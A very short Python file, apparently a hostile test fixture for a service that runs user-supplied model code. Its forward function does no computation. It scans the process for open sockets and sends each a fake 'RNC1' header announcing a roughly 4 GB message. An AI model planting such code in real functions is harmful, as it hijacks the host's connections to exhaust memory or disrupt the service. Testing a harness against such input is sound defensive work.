"""Announces a header of 4 GB."""

import gc
import socket
import struct


def forward(params, x, state):
    for thing in gc.get_objects():
        if type(thing) is socket.socket:
            thing.sendall(struct.pack("<4sIQ", b"RNC1", 0xFFFFFFFF, 0))
    return state, state
